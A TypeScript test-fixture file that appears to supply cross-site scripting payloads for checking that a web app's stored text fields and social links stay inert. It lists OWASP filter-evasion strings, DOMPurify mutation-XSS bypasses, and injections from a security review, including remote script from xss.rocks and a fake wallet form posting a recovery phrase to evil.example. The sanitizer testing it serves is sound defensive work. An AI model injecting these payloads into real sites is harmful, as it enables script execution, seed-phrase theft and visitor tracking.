// Payloads that must never run, fetch or restyle anything when stored in a text field and shown.
// Sources: the OWASP XSS Filter Evasion Cheat Sheet
// (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, its examples
// as written there, off-site host included), published DOMPurify mutation-XSS bypasses
// (https://github.com/cure53/DOMPurify/releases, 2.0.1–2.2.2), and the CSS and markup injections a
// security review of MeshLink found in asset descriptions. Every off-site URL here names a host
// outside MeshLink, so a journey can tell any fetch of one.

export const XSS_FILTER_EVASION = [
  `<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<svg/onload=alert('XSS')>`,
  `<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
  `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<img src=x onerror=alert(1)//`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<<img src=x onerror=alert(1)//>img src=x onerror=alert(1)//>`,
  `<details open ontoggle=alert(1)>`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
] as const;

export const MUTATION_XSS = [
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
  `<template><script>alert(1)</script></template>`,
] as const;

// What the review stored: a page blanked, a fake wallet banner over it, and a fetch from every visitor.
export const CSS_AND_MARKUP_INJECTION = [
  `<style>body{display:none}</style>`,
  `<style>main{visibility:hidden!important}</style>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:#fff;font-size:48px">Approve the transfer in your wallet</div>`,
  `<form action="https://evil.example/steal"><input name="seed" placeholder="Enter your recovery phrase"><button>Approve</button></form>`,
  `<style>@import url("https://evil.example/track.css");</style>`,
  `<p style="background:url(https://evil.example/pixel.png)">tracked</p>`,
  `<img src="https://evil.example/pixel.png">`,
  `<picture><source srcset="https://evil.example/pixel.png"></picture>`,
  `<video poster="https://evil.example/pixel.png"></video>`,
  `<svg><image href="https://evil.example/pixel.png"/></svg>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<p class="fixed inset-0 z-50 bg-black">covered</p>`,
  `<marquee onstart=alert(1)>moving</marquee>`,
] as const;

export const INJECTION_CORPUS: readonly string[] = [
  ...XSS_FILTER_EVASION,
  ...MUTATION_XSS,
  ...CSS_AND_MARKUP_INJECTION,
];

/** Social links that are not https: refused when stored, inert when shown. */
export const UNSAFE_LINKS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "http://xss.rocks/",
  "//xss.rocks/",
  "ftp://xss.rocks/",
  "https:alert(1)",
  "https://",
  "xss.rocks",
] as const;
